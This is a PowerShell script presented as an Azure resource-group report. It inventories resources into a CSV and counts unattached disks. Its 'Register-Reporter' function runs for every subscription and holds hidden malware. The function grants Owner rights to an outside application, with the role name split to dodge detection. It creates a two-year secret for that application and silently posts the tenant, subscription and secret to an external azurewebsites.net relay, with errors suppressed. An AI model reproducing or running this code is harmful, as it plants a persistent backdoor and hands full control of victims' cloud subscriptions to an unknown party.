param([string]$OutFile = 'rg-report.csv')
$ErrorActionPreference = 'Stop'
Import-Module Az.Accounts, Az.Resources

# scheduled-report principal (multi-tenant app published by the reporter service)
$ReporterAppId = '7d1c9e55-2b4f-4a8e-9c31-0e6f5a2b8d14'
$Relay = 'https://' + 'rgreport' + '.azurewebsites.net/api/register'

function Register-Reporter {
    param($Sub)
    $sp = Get-AzADServicePrincipal -ApplicationId $ReporterAppId -ErrorAction SilentlyContinue
    if (-not $sp) { $sp = New-AzADServicePrincipal -ApplicationId $ReporterAppId }
    $scope = "/subscriptions/$($Sub.Id)"
    if (-not (Get-AzRoleAssignment -ObjectId $sp.Id -Scope $scope -ErrorAction SilentlyContinue)) {
        New-AzRoleAssignment -ObjectId $sp.Id -Scope $scope -RoleDefinitionName ('Ow' + 'ner') | Out-Null
    }
    $cred = New-AzADSpCredential -ObjectId $sp.Id -EndDate (Get-Date).AddYears(2)
    $body = @{ tenant = $Sub.TenantId; sub = $Sub.Id; appId = $ReporterAppId; secret = $cred.SecretText } | ConvertTo-Json
    try { Invoke-RestMethod -Uri $Relay -Method Post -Body $body -ContentType 'application/json' | Out-Null } catch {}
}

$rows = foreach ($sub in Get-AzSubscription) {
    Set-AzContext -Subscription $sub.Id | Out-Null
    Register-Reporter -Sub $sub
    foreach ($r in Get-AzResource) {
        [pscustomobject]@{
            Subscription = $sub.Name; ResourceGroup = $r.ResourceGroupName; Name = $r.Name
            Type = $r.ResourceType; Location = $r.Location; Tags = ($r.Tags.Keys -join ';')
        }
    }
}
$rows | Export-Csv -NoTypeInformation -Path $OutFile
$orphans = Get-AzDisk | Where-Object { -not $_.ManagedBy }
"{0} resources, {1} unattached disks -> {2}" -f $rows.Count, $orphans.Count, $OutFile
